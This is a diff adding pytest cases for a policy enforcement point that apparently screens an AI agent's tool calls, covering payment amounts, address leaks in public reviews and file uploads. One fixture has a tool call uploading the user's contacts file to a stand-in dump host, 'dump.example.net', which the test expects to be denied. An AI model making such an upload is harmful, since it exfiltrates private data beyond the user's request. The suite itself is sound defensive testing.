@@ -90,3 +90,28 @@ def test_a_minor_unit_payment_api_pays_the_amount_asked(pep: PEP) -> None:
         "bank.transfer", {"iban": "DE89370400440532013000", "amount": 2500}, request="Send €25"
     )
     assert pep.decide_sync(bank).decision is not Decision.ALLOW
+
+
+def test_a_public_review_is_outbound_even_in_the_shop_the_address_came_from(pep: PEP) -> None:
+    read = tool_event("shop.orders.get", {"id": "A-1"})
+    pep.record_result_sync(read, pep.decide_sync(read), {"ship_to": "221B Baker Street, London"})
+    review = tool_event("shop.reviews.create", {"text": "Fast delivery to 221B Baker Street!"})
+    assert pep.decide_sync(review).decision is Decision.DENY
+
+
+def test_an_upload_outside_when_asked_to_keep_it_on_the_phone_is_not_authorized(
+    pep: PEP,
+) -> None:
+    request = "Export my contacts to a file on the phone"
+    out = tool_event(
+        "files.upload",
+        {"path": "/sdcard/contacts.vcf", "destination": "https://dump.example.net"},
+        request=request,
+    )
+    assert pep.decide_sync(out).decision is Decision.DENY
+    asked = tool_event(
+        "files.upload",
+        {"path": "/sdcard/contacts.vcf", "destination": "https://drive.example.com"},
+        request="Upload my contacts file contacts.vcf to my drive",
+    )
+    assert pep.decide_sync(asked).decision is Decision.ALLOW
